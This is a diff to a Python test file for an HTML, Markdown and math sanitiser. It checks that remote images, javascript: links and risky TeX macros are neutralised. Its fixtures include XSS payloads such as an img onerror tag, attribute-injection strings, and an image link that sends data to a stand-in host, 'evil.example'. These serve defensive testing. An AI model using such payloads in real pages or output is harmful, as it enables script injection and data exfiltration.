@@ -9,7 +9,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from renderers import RENDERERS, commonmark, live_tags
 
-from minimax_magic.render.safety import escape_html
+from minimax_magic.render.safety import escape_html, escape_math, images_left_out
 
 IMG = "<img src=x onerror=alert(1)>"
 
@@ -45,7 +45,13 @@ def test_what_is_harmless_stays_as_it_is(text: str) -> None:
     [
         (f"a {IMG} b", "a &lt;img src=x onerror=alert(1)> b"),
         ("</p><!-- c --><?php ?>", "&lt;/p>&lt;!-- c -->&lt;?php ?>"),
-        ("![chart](https://evil.example/?q=data)", "&#33;[chart](https://evil.example/?q=data)"),
+        (
+            "![chart](https://evil.example/?q=data)",
+            "chart (image not loaded: <https://evil.example/?q=data>)",
+        ),
+        ("![a](http://x.y/b.png 'title')", "&#33;[a](http://x.y/b.png 'title')"),
+        ("![a](data:image/png;base64,AA)", "&#33;[a]\\(data:image/png;base64,AA)"),
+        ("[x](ftp://example.org/f)", "[x]\\(ftp://example.org/f)"),
         ("![a][b]", "&#33;[a][b]"),
         ("[x](javascript:alert(1))", "[x]\\(javascript:alert(1))"),
         ("[x](java&#115;cript&colon;alert)", "[x]\\(java&#115;cript&colon;alert)"),
@@ -192,6 +198,109 @@ def test_no_mixture_gets_a_tag_through(text: str) -> None:
     safe = escape_html(text)
     for name, render in RENDERERS.items():
         assert live_tags(render(safe)) == [], name
+
+
+_IMAGES = [
+    "![a](https://x.y/z.png)",
+    "![a b](http://h/)",
+    "![](https://h/?a=b&c=d)",
+    "![a](https://h/$x)",
+    '![a](https://h/" onerror="x)',
+    '![a" onerror="x](https://h/)',
+    "![@@0@@](https://h/@@0@@)",
+    "[![a](https://h/i)](https://h)",
+]
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from([*_ATOMS, *_IMAGES]), min_size=2, max_size=24).map("".join))
+@example('$ ![a](https://h/) " onerror="x $')
+@example("`![a](https://h/`)")
+@example("![a](https://h/&#34;onerror=&#34;x)")
+def test_allowed_images_let_nothing_else_through(text: str) -> None:
+    """Where images may be loaded, one has an address of the web and a text, and nothing that runs."""
+    safe = escape_html(text, remote_images=True)
+    for name, render in RENDERERS.items():
+        assert live_tags(render(safe), images=True) == [], name
+
+
+@pytest.mark.parametrize("text", ["![a](https://x.y/z.png)", "[![a](http://h/i)](https://h)"])
+def test_images_are_loaded_only_if_allowed(text: str) -> None:
+    """`--allow-remote-images` leaves an inline image alone; else its address is text, and a link."""
+    assert escape_html(text, remote_images=True) == text
+    for render in RENDERERS.values():
+        assert "<img" in render(escape_html(text, remote_images=True))
+        assert "<img" not in render(escape_html(text))
+        assert "image not loaded: " in render(escape_html(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a][1]\n\n[1]: https://h/i.png",
+        "![a]",
+        "![a](https://h/i 'title')",
+        "![a](data:image/svg+xml,x)",
+        "![a](./file.png)",
+        "![a](javascript:x)",
+        "![a](//h/i.png)",
+        "![a](<https://h/i>)",
+    ],
+)
+def test_other_images_are_never_loaded(text: str) -> None:
+    """Only the inline form with an address of the web is an image, allowed or not."""
+    for allowed in (True, False):
+        for render in RENDERERS.values():
+            assert "<img" not in render(escape_html(text, remote_images=allowed))
+
+
+@pytest.mark.parametrize(
+    ("text", "blocked", "allowed"),
+    [
+        ("none, really![1]", 0, 0),
+        ("![a](https://h/1) and ![b](https://h/2)", 2, 0),
+        ("![a](https://h/1) and ![b][ref]", 2, 1),
+        ("`![a](https://h/1)`", 0, 0),
+        ("```md\n![a](https://h/1)\n```", 0, 0),
+    ],
+)
+def test_images_left_out_are_counted(text: str, blocked: int, allowed: int) -> None:
+    """Images that were made into text are counted, those in code not."""
+    assert images_left_out(text) == blocked
+    assert images_left_out(text, remote_images=True) == allowed
+
+
+@pytest.mark.parametrize(
+    "macro",
+    [
+        r"\href{javascript:alert(1)}{x}",
+        r"\style{background:url(https://h/)}{x}",
+        r"\class{a}{x}",
+        r"\cssId{a}{x}",
+        r"\bbox[background:url(https://h/)]{x}",
+        r"\mmlToken{mi}[href=x]{y}",
+        r"\unicode{x41}",
+        r"\def\frac#1{}",
+        r"\newcommand{\x}{y}",
+        r"\renewcommand\x{y}",
+        r"\let\a=\href",
+        r"\require{html}",
+        r"\htmlClass{a}{x}",
+    ],
+)
+def test_macros_that_reach_out_of_math_are_disarmed(macro: str) -> None:
+    """Links, styles, and macros that would hold in all other formulas, are unknown words to TeX."""
+    assert macro.split("{")[0].split("[")[0] not in escape_html(f"See ${macro}$.")
+    assert escape_math(macro).replace("\u200c", "") == macro
+
+
+@pytest.mark.parametrize(
+    "text",
+    [r"$\frac{a}{b}$", r"$\defeq \left( \letter$", r"C:\class and \style", r"Say `\href{a}{b}`."],
+)
+def test_other_macros_and_words_stay(text: str) -> None:
+    """Ordinary math, paths and code are not touched."""
+    assert escape_html(text) == text
 
 
 def test_code_beside_math_keeps_to_itself() -> None:
